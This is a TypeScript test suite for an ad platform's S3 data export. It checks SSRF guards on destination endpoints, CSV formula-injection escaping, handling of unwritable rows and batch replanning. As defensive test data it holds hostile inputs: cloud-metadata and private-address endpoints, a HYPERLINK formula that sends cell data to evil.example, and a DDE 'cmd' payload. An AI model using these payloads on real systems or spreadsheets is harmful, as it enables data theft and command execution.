// The export against hostile tenants and hostile data: endpoints that point into Tally's own
// network, CSV cells that spreadsheets would run, rows that cannot be exported, batches too large
// or changed under their plan, and which pool the batch reads use. Real Postgres, a real S3 API
// (s3rver), files read back with DuckDB.
import { randomUUID } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { GetObjectCommand, ListObjectsV2Command, S3Client } from "@aws-sdk/client-s3";
import { DuckDBInstance } from "@duckdb/node-api";
import type pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { LOCAL_S3_CREDENTIALS, type LocalS3, startLocalS3 } from "@/cli/local/local-s3";
import { recordConversion } from "@/server/conversions/record-conversion";
import { db } from "@/server/db/client";
import { bulkPool, pgPool } from "@/server/db/pg-pool";
import { sessionHashOf } from "@/server/ingest/beacon-token";
import { recordBeacon } from "@/server/ingest/record-beacon";
import { makeAdvertiser, makeCampaignWithAd, makePublisher } from "@/testing/fixtures";
import type { BatchRows } from "./batch-rows";
import { deliverBatch } from "./deliver-batch";
import { createDestination, destinationWithSecret, getDestination, updateDestination } from "./destinations";
import { isolateBadRows } from "./poison";
import { runDueExports } from "./run-exports";
import { testConnection } from "./s3";
import { setAsideExportRows } from "./set-aside-rows";

const CHROME = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36";
const DAY_MS = 86_400_000;
const HOUR_MS = 3_600_000;
const T0 = Date.now();
/** Yesterday 00:00 UTC: rows between it and today 00:00 fall in one event batch of a destination made two days ago. */
const YESTERDAY = Math.floor(T0 / DAY_MS) * DAY_MS - DAY_MS;
const LATER = () => new Date(T0 + 2 * DAY_MS);
const BUCKET = "lake";
const work = mkdtempSync(path.join(tmpdir(), "tally-export-hardening-"));
let s3: LocalS3;

const client = () =>
  new S3Client({
    region: "us-east-1",
    endpoint: s3.endpoint,
    forcePathStyle: true,
    credentials: LOCAL_S3_CREDENTIALS,
    requestChecksumCalculation: "WHEN_REQUIRED",
    responseChecksumValidation: "WHEN_REQUIRED",
  });

async function listKeys(prefix: string): Promise<string[]> {
  const page = await client().send(new ListObjectsV2Command({ Bucket: BUCKET, Prefix: prefix }));
  return (page.Contents ?? []).map((o) => o.Key!).sort();
}

async function download(keys: string[]): Promise<string[]> {
  const files: string[] = [];
  for (const key of keys) {
    const object = await client().send(new GetObjectCommand({ Bucket: BUCKET, Key: key }));
    const file = path.join(work, "downloads", key);
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, Buffer.from(await object.Body!.transformToByteArray()));
    files.push(file);
  }
  return files;
}

async function duckdb() {
  const connection = await (await DuckDBInstance.create(":memory:")).connect();
  return async (sql: string) => (await connection.runAndReadAll(sql)).getRowObjectsJS();
}
const fileList = (files: string[]) => `[${files.map((f) => `'${f}'`).join(", ")}]`;

beforeAll(async () => {
  s3 = await startLocalS3({ directory: path.join(work, "s3"), buckets: [BUCKET] });
});
afterAll(async () => {
  await s3?.stop().catch(() => {});
  rmSync(work, { recursive: true, force: true });
});

/** A destination under its own prefix, made two days ago (its watermarks start before yesterday). */
async function destinationFor(accountId: string, types: string[], endpoint = s3.endpoint) {
  const prefix = `t-${randomUUID()}`;
  const destination = await createDestination({
    accountId,
    name: "Lake",
    bucket: BUCKET,
    region: "us-east-1",
    endpoint,
    forcePathStyle: true,
    prefix,
    credentials: { kind: "access_key", ...LOCAL_S3_CREDENTIALS },
    types,
  });
  await db.exportDestination.update({ where: { id: destination.id }, data: { createdAt: new Date(T0 - 2 * DAY_MS) } });
  return { ...destination, prefix: `${prefix}/` };
}

/** Counted impressions of a new publisher received at `times` (epoch ms), in that order; their event ids. */
async function publisherWithEvents(times: number[]) {
  const publisher = await makePublisher();
  const advertiser = await makeAdvertiser();
  const { campaign, ad } = await makeCampaignWithAd({ advertiserId: advertiser.id, publisherIds: [publisher.id] });
  const ids: string[] = [];
  for (const [i, at] of times.entries()) ids.push(await eventAt(publisher, advertiser.id, campaign.id, ad.id, at, `s${i}`));
  return { publisher, advertiser, campaign, ad, ids, add: (at: number, session: string) => eventAt(publisher, advertiser.id, campaign.id, ad.id, at, session) };
}

async function eventAt(
  publisher: Awaited<ReturnType<typeof makePublisher>>,
  advertiserId: string,
  campaignId: string,
  adId: string,
  at: number,
  session: string,
): Promise<string> {
  const stored = await recordBeacon({
    claims: {
      kind: "impression",
      requestId: randomUUID(),
      adId,
      campaignId,
      advertiserId,
      publisherId: publisher.id,
      site: publisher.sites[0]!.name,
      placementName: "home",
      context: "home",
      adType: "banner",
      adSize: "300x250",
      issuedAt: Math.floor(at / 1000),
      sessionHash: sessionHashOf(session),
    },
    body: { session_id: session },
    userAgent: CHROME,
    now: new Date(at),
  });
  expect(stored.status).toBe("counted");
  const [row] = await db.$queryRaw<
    { event_id: string }[]
  >`SELECT event_id::text FROM ad_events WHERE publisher_id = ${publisher.id} AND session_id = ${session}`;
  // The receipt time exactly, to the millisecond (the tests place rows on batch edges).
  await db.$executeRaw`UPDATE ad_events SET created_at = ${new Date(at)} WHERE event_id = ${row!.event_id}::uuid`;
  return row!.event_id;
}

async function eventIdsIn(keys: string[]): Promise<string[]> {
  const parquet = keys.filter((k) => k.endsWith(".parquet"));
  if (parquet.length === 0) return [];
  const sql = await duckdb();
  return (await sql(`SELECT event_id FROM read_parquet(${fileList(await download(parquet))}) ORDER BY created_at, event_id`)).map((r) => String(r.event_id));
}

describe("a destination's endpoint", () => {
  it("may not point at a loopback, private or link-local address when saved, in words on the endpoint field", async () => {
    const publisher = await makePublisher();
    const input = (endpoint: string) => ({
      accountId: publisher.id,
      name: "Inside",
      bucket: BUCKET,
      region: "us-east-1",
      endpoint,
      forcePathStyle: true,
      credentials: { kind: "access_key", ...LOCAL_S3_CREDENTIALS },
    });
    const refuse = { allowPrivateEndpoints: false };
    await expect(createDestination(input(s3.endpoint), refuse)).rejects.toThrow("endpoint must be a public address: 127.0.0.1 is a loopback address");
    await expect(createDestination(input("http://169.254.169.254/latest/meta-data"), refuse)).rejects.toThrow(
      "endpoint must be a public address: 169.254.169.254 is a link-local address (where cloud metadata services answer)",
    );
    await expect(createDestination(input("http://2852039166"), refuse)).rejects.toThrow("169.254.169.254 is a link-local address");
    await expect(createDestination(input("http://[::ffff:10.0.0.7]:9000"), refuse)).rejects.toThrow(
      "endpoint must be a public address: ::ffff:a00:7 is a private network address (RFC 1918)",
    );
    await expect(createDestination(input(`http://localhost:${s3.port}`), refuse)).rejects.toThrow(
      /^endpoint must be a public address: localhost resolves to (127\.0\.0\.1|::1), a loopback address$/,
    );
    expect(await db.exportDestination.count({ where: { accountId: publisher.id } })).toBe(0);

    // An update is checked the same way; the operator's allowance lets the local S3 through.
    const allowed = await createDestination(input(s3.endpoint), { allowPrivateEndpoints: true });
    await expect(updateDestination(allowed.id, { ...input("http://192.168.0.10:9000"), name: "Moved" }, refuse)).rejects.toThrow(
      "endpoint must be a public address: 192.168.0.10 is a private network address (RFC 1918)",
    );
    expect((await getDestination(allowed.id))!.endpoint).toBe(s3.endpoint);
  });

  it("is checked again on every connection, on the address dialled (a name that resolves to a private address now is refused)", async () => {
    const shop = await publisherWithEvents([YESTERDAY + 10 * HOUR_MS]);
    // Saved while allowed (as a name that resolved to a public address then would be); connecting later is refused.
    const byName = await destinationFor(shop.publisher.id, ["ad_events"], `http://localhost:${s3.port}`);
    const refused = await testConnection((await destinationWithSecret(byName.id))!, { allowPrivateEndpoints: false });
    expect(refused).toEqual({
      ok: false,
      error: expect.stringMatching(
        /^the endpoint is not on the public internet: localhost resolves to (127\.0\.0\.1|::1), a loopback address; Tally connects only to public addresses$/,
      ),
    });
    expect(await testConnection((await destinationWithSecret(byName.id))!, { allowPrivateEndpoints: true })).toMatchObject({ ok: true });

    // A literal address, which Node dials without a lookup: the export's run fails in words, the
    // destination waits for a person, and nothing reached the bucket.
    const literal = await destinationFor(shop.publisher.id, ["ad_events"]);
    const { runs } = await runDueExports({ now: LATER, destinationId: literal.id, allowPrivateEndpoints: false });
    const failed = runs.filter((r) => r.status === "failed");
    expect(failed).toHaveLength(1);
    expect(failed[0]!.error).toBe("the endpoint is not on the public internet: 127.0.0.1 is a loopback address; Tally connects only to public addresses");
    expect(await getDestination(literal.id)).toMatchObject({ status: "needs_attention", statusReason: failed[0]!.error });
    expect(await listKeys(literal.prefix)).toEqual([]);
    // Allowed, the same destination delivers: the refusal was the guard's, not the bucket's.
    await updateDestination(literal.id, {
      accountId: shop.publisher.id,
      name: "Lake",
      bucket: BUCKET,
      region: "us-east-1",
      endpoint: s3.endpoint,
      forcePathStyle: true,
      prefix: literal.prefix,
      credentials: { kind: "access_key", ...LOCAL_S3_CREDENTIALS },
      types: ["ad_events"],
    });
    const delivered = await runDueExports({ now: () => new Date(T0 + 3 * DAY_MS), destinationId: literal.id, allowPrivateEndpoints: true });
    expect(delivered.runs.every((r) => r.status === "succeeded")).toBe(true);
    expect(await eventIdsIn(await listKeys(literal.prefix))).toEqual(shop.ids);
  });
});

describe("CSV cells a spreadsheet would run", () => {
  it("are prefixed with a quote and quoted; numbers stay numbers, negative ones included; the prefix comes off again", async () => {
    const publisher = await makePublisher();
    const advertiser = await makeAdvertiser();
    const evilName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    await db.account.update({ where: { id: advertiser.id }, data: { name: evilName, sellerId: "@SUM(1+1)", walletBalanceMicros: -12_500_000n } });
    const names = ["-2+3", "+cmd|' /C calc'!A0", "\tTabbed", "\rReturn", "'=already quoted", "Plain, with a comma", "a=b-c"];
    for (const name of names) {
      const { campaign } = await makeCampaignWithAd({ advertiserId: advertiser.id, publisherIds: [publisher.id] });
      await db.campaign.update({ where: { id: campaign.id }, data: { name } });
    }
    const destination = await destinationFor(publisher.id, ["advertisers", "campaigns"]);
    const { runs } = await runDueExports({ now: LATER, destinationId: destination.id });
    expect(runs.length).toBeGreaterThan(0);
    expect(runs.every((r) => r.status === "succeeded")).toBe(true);
    const lastOf = async (type: string) => (await db.exportRun.findUniqueOrThrow({ where: { id: runs.filter((r) => r.type === type).at(-1)!.runId } })).keys;
    const [advertisersFile] = await download(await lastOf("advertisers"));
    const [campaignsFile] = await download(await lastOf("campaigns"));
    // The bytes: the quote inside the cell, the cell quoted (RFC 4180 doubling the quotes within).
    expect(readFileSync(advertisersFile!, "utf8")).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",${advertiser.id},"'@SUM(1+1)",-12.5,`);

    const sql = await duckdb();
    const advertisers = await sql(
      `SELECT advertiser, seller_id, wallet_balance FROM read_csv('${advertisersFile}', header = true) WHERE advertiser_id = '${advertiser.id}'`,
    );
    expect(advertisers).toEqual([{ advertiser: `'${evilName}`, seller_id: "'@SUM(1+1)", wallet_balance: -12.5 }]);
    const types = await sql(
      `SELECT column_name, column_type FROM (DESCRIBE SELECT wallet_balance, advertiser FROM read_csv('${advertisersFile}', header = true))`,
    );
    expect(types).toEqual([
      { column_name: "wallet_balance", column_type: "DOUBLE" },
      { column_name: "advertiser", column_type: "VARCHAR" },
    ]);

    const campaigns = await sql(
      `SELECT name, impressions_total FROM read_csv('${campaignsFile}', header = true) WHERE advertiser_id = '${advertiser.id}' ORDER BY name`,
    );
    expect(campaigns.map((c) => c.name).sort()).toEqual(
      ["'-2+3", "'+cmd|' /C calc'!A0", "'\tTabbed", "'\rReturn", "''=already quoted", "Plain, with a comma", "a=b-c"].sort(),
    );
    expect(campaigns.every((c) => typeof c.impressions_total === "number" || typeof c.impressions_total === "bigint")).toBe(true);
    // How a data team takes the prefix off (docs/export.md): the original text, every time.
    const undone = await sql(
      `SELECT regexp_replace(name, '^''(''*[=+\\-@\\t\\r])', '\\1') AS name FROM read_csv('${campaignsFile}', header = true) WHERE advertiser_id = '${advertiser.id}'`,
    );
    expect(undone.map((c) => c.name).sort()).toEqual([...names].sort());
  });
});

describe("a row the export cannot write", () => {
  it("is set aside with its reason and counted on the run; every other row is delivered exactly once", async () => {
    const publisher = await makePublisher();
    const orders: string[] = [];
    for (let i = 0; i < 7; i += 1) {
      const at = YESTERDAY + (10 + i) * HOUR_MS;
      await recordConversion(
        {
          publisher_id: publisher.id,
          user_id: `u${i}`,
          session_id: `s${i}`,
          order_id: `o-${randomUUID()}`,
          created_at: new Date(at - 60_000).toISOString(),
          channel: "online store",
          email_hashed: "a".repeat(64),
          items: [{ sku: "SKU-1", quantity: 1, price: 10, promotional_price: 10 }],
        },
        new Date(at),
      );
      const [row] = await db.$queryRaw<
        { event_id: string }[]
      >`SELECT event_id::text FROM conversions WHERE publisher_id = ${publisher.id} AND session_id = ${`s${i}`}`;
      await db.$executeRaw`UPDATE conversions SET received_at = ${new Date(at)} WHERE event_id = ${row!.event_id}::uuid`;
      orders.push(row!.event_id);
    }
    // Two orders whose time Parquet cannot hold (Postgres takes 'infinity'; a millisecond count cannot).
    const bad = [orders[2]!, orders[5]!];
    await db.$executeRaw`UPDATE conversions SET placed_at = 'infinity' WHERE event_id::text = ANY(${bad})`;
    const destination = await destinationFor(publisher.id, ["orders"]);

    const uploaded: string[] = [];
    const { runs } = await runDueExports({ now: LATER, destinationId: destination.id, rowsPerFile: 2, onFile: (f) => void uploaded.push(f.key) });
    expect(runs.every((r) => r.status === "succeeded")).toBe(true);
    const run = runs.find((r) => r.setAsideRows > 0)!;
    const reason = "column placed_at: Infinity is not a time in milliseconds since 1970";
    expect(run).toMatchObject({ rows: 5, files: 3, setAsideRows: 2, setAside: [...bad].sort().map((id) => ({ id, reason, rows: 1 })) });
    const stored = await db.exportRun.findUniqueOrThrow({ where: { id: run.runId } });
    expect(stored).toMatchObject({ status: "succeeded", setAsideRows: 2, plannedRows: 5n, rows: 5n, staleKeys: [] });
    expect(stored.setAside).toEqual(run.setAside);

    // The first attempt uploaded a file before it met the bad row; the re-planned batch deleted it.
    const firstAttempt = uploaded.filter((key) => !stored.keys.includes(key));
    expect(firstAttempt).toHaveLength(1);
    const inBucket = await listKeys(destination.prefix);
    const planned = (await db.exportRun.findMany({ where: { destinationId: destination.id } })).flatMap((r) => r.keys);
    expect(inBucket.filter((k) => k.endsWith(".parquet"))).toEqual(planned.sort());
    expect(inBucket).not.toContain(firstAttempt[0]);
    expect(inBucket.filter((k) => k.endsWith("_SUCCESS"))).toHaveLength(
      new Set(inBucket.filter((k) => k.endsWith(".parquet")).map((k) => k.slice(0, k.lastIndexOf("/")))).size,
    );
    const sql = await duckdb();
    const files = await download(inBucket.filter((k) => k.endsWith(".parquet")));
    const delivered = (await sql(`SELECT event_id FROM read_parquet(${fileList(files)}) ORDER BY placed_at`)).map((r) => String(r.event_id));
    expect(delivered.sort()).toEqual(orders.filter((id) => !bad.includes(id)).sort());
    // The destination is not held back: its watermark is past the batch.
    const watermark = await db.exportWatermark.findUniqueOrThrow({ where: { destinationId_type: { destinationId: destination.id, type: "orders" } } });
    expect(watermark.deliveredTo.getTime()).toBeGreaterThanOrEqual(stored.rangeEnd.getTime());
    // Operators see the rows, with their reason, where rollups:verify lists what the jobs set aside.
    const day = stored.startedAt.toISOString().slice(0, 10);
    const listed = await setAsideExportRows({ startDate: day, endDate: day });
    expect(listed.totalRows).toBeGreaterThanOrEqual(2);
    expect(listed.runs.find((r) => r.run_id === run.runId)).toMatchObject({
      destination_id: destination.id,
      account_id: publisher.id,
      type: "orders",
      rows: run.setAside,
    });
  });

  it("is found by splitting when Postgres itself fails on it (SQLSTATE class 22), and the split ends at each bad row", async () => {
    await db.$executeRawUnsafe("CREATE TABLE poison_rows (id int PRIMARY KEY, divisor int NOT NULL)");
    await db.$executeRawUnsafe("INSERT INTO poison_rows SELECT n, CASE WHEN n IN (17, 123, 124) THEN 0 ELSE n END FROM generate_series(1, 200) n");
    const rows: BatchRows = {
      type: "advertisers",
      select: "p.id::text AS id, 1000 / p.divisor AS share",
      from: "poison_rows p",
      where: "true",
      order: "p.id",
      id: "p.id::text",
      values: [],
      cells: (raw) => [(raw as { id: string }).id, (raw as { share: number }).share],
    };
    const found = await isolateBadRows(rows, []);
    expect(found).toEqual(["123", "124", "17"].map((id) => ({ id, reason: "division by zero (SQLSTATE 22012)", rows: 1 })));
    // Rows already set aside are not looked at again; a search stops at its limit, and the next
    // one (those rows excluded) finds the rest.
    expect(await isolateBadRows(rows, ["17", "123"])).toEqual([{ id: "124", reason: "division by zero (SQLSTATE 22012)", rows: 1 }]);
    const firstTwo = await isolateBadRows(rows, [], 2);
    expect(firstTwo.map((row) => row.id)).toEqual(["123", "124"]);
    expect(
      (
        await isolateBadRows(
          rows,
          firstTwo.map((row) => row.id),
          2,
        )
      ).map((row) => row.id),
    ).toEqual(["17"]);
    // An error that is not the data's (here, a column that does not exist) is not split: it fails as it is.
    await expect(isolateBadRows({ ...rows, select: "p.nothing" }, [])).rejects.toMatchObject({ code: "42703" });
  });
});

describe("an event batch", () => {
  it("ends where its rows reach the cap, and the rest follows in the next batch; one millisecond is never divided", async () => {
    const t1 = YESTERDAY + 10 * HOUR_MS;
    const t2 = t1 + HOUR_MS;
    const t3 = t2 + HOUR_MS;
    const shop = await publisherWithEvents([t1, t2, t2, t2, t3]);
    const destination = await destinationFor(shop.publisher.id, ["ad_events"]);
    const { runs } = await runDueExports({ now: LATER, destinationId: destination.id, maxRowsPerBatch: 2, rowsPerFile: 10 });
    expect(runs.every((r) => r.status === "succeeded")).toBe(true);
    // Contiguous ranges: each batch starts where the one before ended.
    for (let i = 1; i < runs.length; i += 1) expect(runs[i]!.rangeStart).toBe(runs[i - 1]!.rangeEnd);
    const withRows = runs.filter((r) => r.rows > 0);
    expect(withRows.map((r) => r.rows)).toEqual([1, 3, 1]);
    // The first ends just before the first millisecond that would take it past 2 rows; three rows of one millisecond go whole.
    expect(withRows[0]!.rangeEnd).toBe(new Date(t2 - 1).toISOString());
    expect(withRows[1]!.rangeEnd).toBe(new Date(t2).toISOString());
    const byRun = [];
    for (const r of withRows) byRun.push(await eventIdsIn((await db.exportRun.findUniqueOrThrow({ where: { id: r.runId } })).keys));
    expect(byRun.map((ids) => ids.sort())).toEqual([[shop.ids[0]], shop.ids.slice(1, 4).sort(), [shop.ids[4]]]);
  });

  it("is planned again, with new keys and the old ones deleted, when rows were committed late into its range", async () => {
    const shop = await publisherWithEvents([YESTERDAY + 10 * HOUR_MS, YESTERDAY + 11 * HOUR_MS, YESTERDAY + 12 * HOUR_MS]);
    const destination = await destinationFor(shop.publisher.id, ["ad_events"]);
    const { failed, oldKeys } = await interruptAfterFirstFile(destination.id, 1);
    expect(failed.plannedRows).toBe(3n);
    expect(oldKeys).toHaveLength(3);

    // A row committed late into the planned range.
    const late = await shop.add(YESTERDAY + 11 * HOUR_MS + 30 * 60_000, "late");
    const second = await runDueExports({ now: () => new Date(LATER().getTime() + 10 * 60_000), destinationId: destination.id, rowsPerFile: 1 });
    expect(second.runs[0]).toMatchObject({ runId: failed.id, status: "succeeded", attempt: 2, rows: 4, files: 4 });
    await expectReplanned(destination.prefix, failed.id, oldKeys, 4, [shop.ids[0]!, shop.ids[1]!, late, shop.ids[2]!]);
  });

  it("is planned again when its files no longer match the rows per file", async () => {
    const shop = await publisherWithEvents([YESTERDAY + 10 * HOUR_MS, YESTERDAY + 11 * HOUR_MS, YESTERDAY + 12 * HOUR_MS]);
    const destination = await destinationFor(shop.publisher.id, ["ad_events"]);
    const { failed, oldKeys } = await interruptAfterFirstFile(destination.id, 1);
    const second = await runDueExports({ now: () => new Date(LATER().getTime() + 10 * 60_000), destinationId: destination.id, rowsPerFile: 2 });
    expect(second.runs[0]).toMatchObject({ runId: failed.id, status: "succeeded", attempt: 2, rows: 3, files: 2 });
    await expectReplanned(destination.prefix, failed.id, oldKeys, 2, shop.ids);
  });

  it("stops before its marker, saying so, when its rows differ from the plan while they are read", async () => {
    const shop = await publisherWithEvents([YESTERDAY + 10 * HOUR_MS, YESTERDAY + 11 * HOUR_MS, YESTERDAY + 12 * HOUR_MS]);
    const destination = (await destinationWithSecret((await destinationFor(shop.publisher.id, ["ad_events"])).id))!;
    const folder = `${destination.prefix}ad_events/x/`;
    const run = (plannedRows: number) => ({
      id: "exr_test",
      type: "ad_events" as const,
      rangeStart: new Date(YESTERDAY),
      rangeEnd: new Date(YESTERDAY + DAY_MS),
      plannedRows,
      exclude: [],
      staleKeys: [],
      keys: Array.from({ length: plannedRows }, (_, i) => `${folder}${plannedRows}-${i}.snappy.parquet`),
    });
    // More rows than planned: none of them written past the plan, no marker.
    expect(await deliverBatch(destination, run(2), { rowsPerFile: 1 })).toEqual({ status: "changed", reason: "more rows than the 2 planned" });
    // Fewer: the files so far, but neither the last planned file nor the marker.
    expect(await deliverBatch(destination, run(4), { rowsPerFile: 1 })).toEqual({ status: "changed", reason: "3 rows where 4 were planned" });
    expect(await listKeys(folder)).toEqual(run(4).keys.slice(0, 3).sort());
    // As planned: every file, then the marker.
    expect(await deliverBatch(destination, { ...run(3), staleKeys: run(4).keys }, { rowsPerFile: 1 })).toMatchObject({
      status: "delivered",
      rows: 3,
      files: 3,
    });
    expect(await listKeys(folder)).toEqual([...run(3).keys, `${folder}_SUCCESS`].sort());
  });

  it("reads its rows on the bulk pool; the request pool only keeps the books", async () => {
    const shop = await publisherWithEvents([YESTERDAY + 10 * HOUR_MS, YESTERDAY + 11 * HOUR_MS]);
    const destination = await destinationFor(shop.publisher.id, ["ad_events", "orders", "order_items", "campaigns"]);
    const seen = { request: [] as string[], bulk: [] as string[] };
    const record = (pool: pg.Pool, into: string[]) => {
      const query = pool.query.bind(pool);
      pool.query = ((...args: Parameters<typeof query>) => {
        const text = typeof args[0] === "string" ? args[0] : (args[0] as { text: string }).text;
        into.push(text);
        return query(...args);
      }) as typeof pool.query;
      return () => {
        pool.query = query;
      };
    };
    const restore = [record(pgPool(), seen.request), record(bulkPool(), seen.bulk)];
    try {
      const { runs } = await runDueExports({ now: LATER, destinationId: destination.id, maxRowsPerBatch: 1 });
      expect(runs.every((r) => r.status === "succeeded")).toBe(true);
      expect(runs.reduce((sum, r) => sum + (r.type === "ad_events" ? r.rows : 0), 0)).toBe(2);
    } finally {
      for (const undo of restore) undo();
    }
    const readsData = /\b(ad_events|conversions|attributions|daily_campaign_totals|daily_ad_totals|daily_publisher_orders)\b/;
    expect(seen.request.filter((sql) => readsData.test(sql))).toEqual([]);
    expect(seen.request.some((sql) => /export_runs/.test(sql))).toBe(true);
    // Counts of every type, and the cap's search for where a batch ends.
    for (const table of ["ad_events e", "conversions c", "attributions a", "daily_campaign_totals"]) {
      expect(seen.bulk.some((sql) => sql.includes("count(*)") && sql.includes(table))).toBe(true);
    }
    expect(seen.bulk.some((sql) => /ORDER BY at OFFSET/.test(sql))).toBe(true);
  });
});

/** Runs a destination's export until its batch with rows fails right after uploading its first file. */
async function interruptAfterFirstFile(destinationId: string, rowsPerFile: number) {
  let uploaded = 0;
  const first = await runDueExports({
    now: LATER,
    destinationId,
    rowsPerFile,
    onFile: () => {
      uploaded += 1;
      throw new Error("the worker stopped");
    },
  });
  expect(uploaded).toBe(1);
  const failedRun = first.runs.at(-1)!;
  expect(failedRun).toMatchObject({ status: "failed", error: "Error: the worker stopped" });
  const failed = await db.exportRun.findUniqueOrThrow({ where: { id: failedRun.runId } });
  expect(await listKeys(failed.keys[0]!)).toEqual([failed.keys[0]]);
  return { failed, oldKeys: failed.keys };
}

/** The run delivered under new keys in a new folder, none of the old plan's objects left, each row once. */
async function expectReplanned(prefix: string, runId: string, oldKeys: string[], files: number, ids: string[]) {
  const run = await db.exportRun.findUniqueOrThrow({ where: { id: runId } });
  expect(run.keys).toHaveLength(files);
  expect(run.keys.filter((k) => oldKeys.includes(k))).toEqual([]);
  expect(run).toMatchObject({ status: "succeeded", plannedRows: BigInt(ids.length), staleKeys: [] });
  const oldFolder = oldKeys[0]!.slice(0, oldKeys[0]!.lastIndexOf("/") + 1);
  const newFolder = run.keys[0]!.slice(0, run.keys[0]!.lastIndexOf("/") + 1);
  expect(newFolder).not.toBe(oldFolder);
  expect(await listKeys(oldFolder)).toEqual([]);
  expect(await listKeys(newFolder)).toEqual([...run.keys, `${newFolder}_SUCCESS`].sort());
  expect(await eventIdsIn(await listKeys(prefix))).toEqual(ids);
}
